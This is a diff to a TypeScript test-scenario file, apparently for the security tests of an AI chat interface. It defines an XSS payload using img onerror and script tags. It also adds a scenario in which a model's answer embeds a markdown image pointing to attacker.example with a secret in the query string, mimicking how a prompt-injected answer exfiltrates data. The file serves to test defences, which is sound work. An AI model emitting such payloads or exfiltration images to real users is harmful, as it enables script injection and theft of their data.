@@ -40,6 +40,14 @@ export function askUserScenario(): Scenario {
 /** Hostile text in every place model output reaches the screen: reasoning, a step, tool arguments, the answer. */
 export const HOSTILE = '<img src=x onerror="window.__xss = (window.__xss || 0) + 1; alert(1)"><script>window.__xss = (window.__xss || 0) + 1; alert(2)</script>';
 
+/** Where {@link remoteImageScenario}'s image points: a note's secret in the query, as a prompt-injected answer would send it. */
+export const LEAK_URL = 'https://attacker.example/leak?d=hostile-canary-7731';
+
+/** An answer with a remote image (issue 25 item 1): it must not load until the user clicks. */
+export function remoteImageScenario(): Scenario {
+  return scenario().turn((t) => t.text(`Here is the chart you asked for:\n\n![chart](${LEAK_URL})\n\nremote-image-canary`, { chunkChars: 24 }));
+}
+
 /** A run whose every visible text is hostile HTML. */
 export function hostileOutputScenario(): Scenario {
   return scenario()
